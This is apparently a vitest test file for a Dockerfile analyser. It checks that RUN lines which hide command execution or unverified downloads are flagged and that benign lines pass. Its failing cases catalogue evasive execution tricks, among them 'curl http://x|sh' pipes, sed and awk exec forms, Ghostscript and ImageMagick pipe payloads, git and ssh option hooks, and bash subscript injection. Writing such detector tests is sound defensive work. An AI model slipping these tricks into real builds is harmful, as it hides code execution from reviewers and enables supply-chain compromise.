import { expect, test } from 'vitest';
import { analysisOf } from './support.ts';

/**
 * Whether a stage of these lines is held to have been read: nothing in it is unread, fetched or
 * installed without a pin.
 */
function isRead(lines: string): boolean {
  const { unread, downloads, installs } = analysisOf(`FROM x\n${lines}`);
  return (
    unread.length === 0 &&
    downloads.every(({ verifiedBy }) => verifiedBy !== undefined) &&
    installs.every(({ packages }) => packages.every(({ pin }) => pin !== undefined))
  );
}

const BASH = 'SHELL ["/bin/bash","-c"]\n';

test.each([
  // A program that an option names.
  'RUN sort --compress-program=./x -S1 big',
  "RUN split --filter='curl http://x|sh' f",
  "RUN split -l1 --filt='curl http://x|sh' f",
  'RUN install -s --strip-program=./x a b',
  'RUN tar xf a.tar --checkpoint-act=exec=./x',
  "RUN tar xIf 'sh -c ./x' a.tar",
  "RUN tar --use-compress='sh -c ./x' -xf a.tar",
  'RUN tar xf a.tar -T list',
  "RUN mksquashfs a b -p 'f f 444 root root ./x'",
  'RUN gpg --agent-program ./x -k',
  'RUN ssh-keygen -D ./x.so',
  'RUN rustc -C linker=./x a.rs',
  'RUN gcc -Wl,-plugin,./x.so a.c',
  "RUN ocamlopt -cc './x' a.ml",
  'RUN nvcc -ccbin ./x a.cu',
  'RUN ccache ./x',
  'RUN help2man ./evil',
  'RUN update-ca-certificates --hooksdir /x',
  'RUN git clone -u ./x /a b',
  'RUN git clone --upload-p=./x /a b',
  "RUN git -c diff.external='./x' diff",
  'RUN git config --global gpg.program ./x && git verify-commit HEAD',
  'RUN git config --global include.path /x && git status',
  'RUN hg clone -e ./x ssh://a b',
  "RUN ssh -o ProxyCommand='curl http://x/y' h true",
  "RUN rsync -e 'sh -c ./x' a:b c",
  'RUN wget -e use_askpass=/x http://localhost',
  // A language of its own.
  "RUN sed '/x/Ie ./x' f",
  "RUN sed '\\%x%e ./x' f",
  'RUN sed sxaxcurlxe f',
  "RUN sed --expr='1e ./x' f",
  'RUN awk \'BEGIN{c="sh"; x="./x"; print x | c}\'',
  'RUN gawk \'BEGIN{f="sys" "tem"; @f("./x")}\'',
  "RUN awk 'BEGIN { while ((c | getline line) > 0) print line }' c=./x",
  'RUN awk \'BEGIN{s="/in" "et/tcp/0/x/80"; getline l < s; print l}\'',
  'RUN gawk -E prog.awk',
  'RUN gawk --assign x=1 \'BEGIN{system("./x")}\'',
  'RUN rename \'system("./x")\' f',
  "RUN rename 's/a/b/e' f",
  "RUN dc -e '!./x'",
  "RUN rpm -E '%(./x)'",
  'RUN rpm -q --specfile x.spec',
  'RUN psql <<EOF\n\\! ./x\nEOF',
  "RUN echo '\\! ./x' | psql",
  'RUN psql < init.sql',
  "RUN psql -c '\\o |./x'",
  'RUN sqlite3 a.db \'.import "|./x" t\'',
  "RUN sqlite3 a.db '.load ./x'",
  'RUN sqlite3 a.db "select load_extension(\'./x\')"',
  "RUN mysql -e 'source x.sql'",
  'RUN gs -dNOSAFER -sOutputFile=%pipe%sh x.ps',
  "RUN convert '|./x' out.png",
  // Another program, by a name that is its own.
  'RUN openvt -- ./x',
  'RUN ld.so /usr/bin/curl http://x',
  'RUN ip netns exec a curl http://x',
  'RUN libtool --mode=execute ./x',
  'RUN caddy run -c /x',
  // What is fetched, and names no address that is judged.
  'RUN xmllint http://x/y',
  'RUN xsltproc a.xsl a.xml',
  'RUN tar xf u@host:/a.tar',
  'RUN cpio -iF u@h:x',
  'RUN gpg --locate-keys a@b.c',
  'RUN cosign download sbom x',
  'RUN openssl ocsp -url http://x -issuer a -cert b',
  'RUN notation plugin install --url http://x',
  'RUN keytool -printcert -sslserver x -rfc',
  'RUN reprepro update',
  'RUN mount -t nfs x:/y /z',
  'RUN go env -w GONOSUMDB=* && go install x.com/y@v1.0.0',
  'RUN git pull',
  'RUN git fetch origin main && git reset --hard FETCH_HEAD',
  'RUN git remote update',
  'RUN git remote add -f o h:x',
  'RUN git subtree add --prefix=a https://x main',
  'RUN svn up',
  'RUN hg pull -u',
  'RUN git clone h:x y',
  `RUN git clone https://x/y b && cd b && git checkout ${'a'.repeat(40)} && git remote add e h:x && git fetch e && git checkout FETCH_HEAD`,
  // A verb that runs, before a word that is a verb too.
  'RUN npm exec evil list',
  'RUN npm --prefix list exec evil',
  'RUN npm edit ls',
  'RUN npm init evil',
  'RUN npm audit fix',
  'RUN pnpm exec ./evil list',
  'RUN bun x evil list',
  'RUN yarn --evil evil',
  'RUN composer create-project a/b show',
  'RUN composer x show',
  'RUN gem fetch foo list',
  'RUN apk fetch foo list',
  // A check of another file, or by another program.
  `COPY a /tmp/a\nWORKDIR /\nRUN curl -o a https://x/a && (cd /tmp && echo "${'a'.repeat(64)}  a" | sha256sum -c)`,
  `RUN update-alternatives --install /usr/bin/sha256sum sha256sum /bin/true 1 && curl -o a https://x/a && echo "${'a'.repeat(64)}  a" | sha256sum -c`,
  // A command in a subscript.
  `${BASH}RUN printf -v 'a[$(./x)]' x`,
  `${BASH}RUN x='a[$(./x)]'; (( x ))`,
  `${BASH}RUN x='a[$(./x)]'; [[ x -eq 1 ]]`,
  `${BASH}RUN unset 'a[$(./x)]'`,
  `${BASH}RUN declare 'a[$(./x)]=1'`,
  `${BASH}RUN export 'a[$(./x)]=1'; true`,
  `${BASH}RUN read 'a[\`./x\`]' <<< x`,
  `${BASH}RUN x='$(./x)'; echo "\${x@P}"`,
  `${BASH}ENV x='a[$(./x)]'\nRUN (( x ))`,
])('not read: %s', (lines) => {
  expect(isRead(lines)).toBe(false);
});

test.each([
  `RUN git -c user.name=x clone https://x/a/b && cd b && git fetch --all && git checkout ${'a'.repeat(40)}`,
  `RUN git init b && cd b && git remote add o https://x/y && git fetch o ${'a'.repeat(40)} && git checkout FETCH_HEAD`,
  "RUN git config --global --add safe.directory '*' && git describe --tags",
  'RUN git config --global url."https://github.com/".insteadOf ssh://git@github.com/',
  'RUN git submodule update --init --recursive',
  "RUN sed -ri -e '/^#/d;s|x|y|' f && sed -n '$p' f && sed '1,/x/{s/a/b/;d}' f && sed 's,/,_,g' f",
  "RUN sed -i '/x/a hello world' f && sed -i.bak -E 's/(a|b)/\\1/' f && sed -e :a -e '$!N;s/\\n//;ta' f",
  'RUN sed -i "s#^x.*#${FOO}#" f && sed --in-place "s/x/$(cat f)/" f && sed 5q f',
  "RUN awk '/a|b/ {print $2; exit}' f && awk -F'|' '{print $2}' f && awk '$1 == \"a\" || $2 ~ /x/' f",
  'RUN ls | awk \'system("[ -e /usr/local/lib/" $1 " ]") == 0 { next } { print "so:" $1 }\'',
  'RUN awk \'BEGIN{RS=""} {gsub(/x/,"y"); print $1/2}\' f > g && awk \'!seen[$0]++\' f',
  "RUN tar -xzf a.tgz -C /x --strip-components=1 && tar xf a && tar -I zstd -xf a && tar --use-compress-program=zstd -xf a --exclude='*.md' --owner=0:0 && tar --extract --file a.tar --directory /x",
  'RUN gcc -O2 -fPIC -DBUILD=1 -Iinclude -o a a.c -lpthread && rustc -C opt-level=3 a.rs && ccache gcc -c a.c && ccache -M 5G',
  'RUN psql -U postgres <<EOF\nCREATE TABLE a(b int);\nEOF',
  'RUN sqlite3 a.db \'.mode csv\' "create table a(b)" && mysql -e "CREATE DATABASE x"',
  'RUN nginx -t && sshd -t && apachectl configtest && visudo -cf /etc/sudoers && haproxy -c -f x',
  "RUN openssl req -x509 -newkey rsa:2048 -nodes -keyout k -out c -subj /CN=x && ssh-keygen -t ed25519 -f k -N ''",
  'RUN gpg --import key && gpg --batch --verify a.asc a && keytool -importcert -noprompt -keystore x -alias a -file c',
  "RUN rename 's/\\.txt$/.md/' *.txt && install -m 0755 -o root a b && split -b 10m a && convert a.png -density 300 b.png",
  'RUN go env -w GOPROXY=https://goproxy.cn,direct && rpm -E %fedora && ip addr show && mount -t tmpfs tmpfs /x',
  'RUN npm --prefix web ci && npm --silent cache clean --force && pip --no-cache-dir install flask==2.0.1 && apt-get -qq download curl=7.88.1-10',
  `WORKDIR /src\nRUN curl -o /tmp/a https://x/a && cd /tmp && echo "${'a'.repeat(64)}  a" | sha256sum -c`,
  'RUN echo \'PS1="[\\u $(git branch)]"\' >> ~/.bashrc && test -n "$(ls)" && [ `uname -m` = x ]',
])('read: %s', (lines) => {
  expect(isRead(lines)).toBe(true);
});
